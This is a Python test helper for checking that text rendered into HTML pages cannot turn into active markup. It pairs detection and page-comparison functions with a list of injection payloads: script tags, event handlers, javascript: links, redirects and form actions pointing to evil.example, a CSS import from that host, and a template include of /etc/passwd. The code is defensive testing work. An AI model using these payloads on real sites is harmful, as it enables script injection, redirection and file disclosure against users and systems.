"""Texts that try to become more than text in a page, and what a page looks like in which none of them has.

Whatever a text says, the page has the elements and attributes that it has with harmless texts: that is its skeleton.
"""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Sequence

from bs4 import BeautifulSoup

#: Against attributes, elements, addresses, styles, Markdown, LaTeX, templates, comments and character references.
PAYLOADS = (
    '"><script>alert(1)</script>',
    "'><script>alert(2)</script>",
    '"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '0;url=https://evil.example/" http-equiv="refresh" x="',
    '" onmouseover="alert(3)" x="',
    "' onfocus='alert(4)' autofocus='",
    '"/><img src=x onerror=alert(5)>',
    "<img src=x onerror=alert(6)>",
    "<svg/onload=alert(7)>",
    '"><svg><script>alert(8)</script></svg>',
    "</title><script>alert(9)</script>",
    "</style><script>alert(10)</script>",
    "--><script>alert(11)</script><!--",
    "]]><script>alert(12)</script>",
    "<iframe srcdoc='<script>alert(13)</script>'></iframe>",
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name=q>',
    "<a href=javascript:alert(14)>x</a>",
    "[x](javascript:alert(15))",
    "[x](java\tscript:alert(16))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    '[x](https://a.example "t\\" onclick=alert(17)")',
    "![x](x){onerror=alert(18)}",
    "[x]{onclick=alert(19) style=position:fixed}",
    "<javascript:alert(20)>",
    "`<script>alert(21)</script>`{=html}",
    "&quot;&gt;&lt;script&gt;alert(22)&lt;/script&gt;",
    "&#34;&#62;&#60;script&#62;alert(23)",
    "\\\" onload=\\\"alert(24)",
    "$\\href{javascript:alert(25)}{x}$",
    "{{ 7*7 }}{% raw %}<script>alert(26)</script>",
    "${alert(27)}`${alert(28)}`",
    "{{< include /etc/passwd >}}",
    "::: {onclick=alert(29)}",
    "<object data=javascript:alert(30)></object>",
    "<style>@import 'https://evil.example/a.css';</style>",
)  # fmt: skip

_SAFE = re.compile(
    r"(?:https?:|mailto:|#|data:,|data:text/csv;charset=utf-8,|data:image/(?:svg\+xml|png)[;,]|[^:]*$)"
)
_ADDRESSES = frozenset(
    {"href", "src", "action", "formaction", "data", "poster", "xlink:href", "srcset"}
)


def skeleton(html: str) -> Counter[tuple[str, ...]]:
    """Count the elements of a page by their name and the names of their attributes.

    Links that a person may follow, and what their names are made of, are left out: an address in a contact becomes one.
    """
    page = BeautifulSoup(html, "html5lib")
    found = (tag for tag in page.find_all(True) if tag.name not in {"a", "wbr"})
    return Counter((tag.name, *sorted(tag.attrs)) for tag in found)


def dangers(html: str) -> list[str]:
    """Name everything in a page that could run, load or lead somewhere by itself."""
    page = BeautifulSoup(html, "html5lib")
    found = []
    for tag in page.find_all(True):
        # A search of the page's own has no address to send anything to.
        sends = tag.name in {"form", "input", "button"} and {"action", "formaction"} & set(
            tag.attrs
        )
        if sends or tag.name in {"iframe", "object", "embed", "base", "frame", "applet"}:
            found.append(f"<{tag.name}>")
        if tag.name == "script" and not tag.get("src", ""):
            found.append("<script>")
        if tag.name == "meta" and str(tag.get("http-equiv", "")).lower() == "refresh":
            found.append("<meta refresh>")
        if tag.name == "style" and re.search(r"@import|javascript:", tag.text):
            found.append("<style> that loads")
        for name, value in tag.attrs.items():
            text = " ".join(value) if isinstance(value, list) else value
            bare = re.sub(r"[\x00-\x20]", "", text).lower()
            if name.startswith("on") or name == "srcdoc":
                found.append(f"<{tag.name} {name}>")
            elif name in _ADDRESSES and not _SAFE.match(bare):
                found.append(f"<{tag.name} {name}={bare[:40]}>")
            elif name == "content" and tag.get("http-equiv") and "url=" in bare:
                found.append(f"<{tag.name} content>")
    return found


def in_groups(most: int) -> list[str]:
    """Join the payloads in as few texts as hold all of them, each of at most so many characters."""
    groups = [""]
    for payload in PAYLOADS:
        line = " ".join(payload.split())
        if len(groups[-1]) + len(line) + 1 > most:
            groups.append("")
        groups[-1] = f"{groups[-1]} {line}".strip()
    return groups


def even_groups(count: int) -> list[list[str]]:
    """Deal the payloads out to so many groups whose texts are about as long as one another."""
    groups: list[list[str]] = [[] for _ in range(count)]
    for payload in sorted((" ".join(one.split()) for one in PAYLOADS), key=len, reverse=True):
        min(groups, key=lambda group: len(" ".join(group))).append(payload)
    return groups


def pieces(group: Sequence[str], most: int) -> list[str]:
    """Give the payloads of a group in as few texts as hold them, each of at most so many characters, for fields that take no more."""
    found = [""]
    for payload in group:
        if found[-1] and len(found[-1]) + len(payload) + 1 > most:
            found.append("")
        found[-1] = f"{found[-1]} {payload}".strip()[:most]
    return found


def strange(html: str, harmless: str) -> set[tuple[str, str]]:
    """Name the elements and attributes of a page that its kind does not have with harmless texts."""
    pages = (BeautifulSoup(text, "html5lib") for text in (html, harmless))
    found, usual = (
        {(tag.name, name) for tag in page.find_all(True) for name in ("", *tag.attrs)}
        for page in pages
    )
    return found - usual
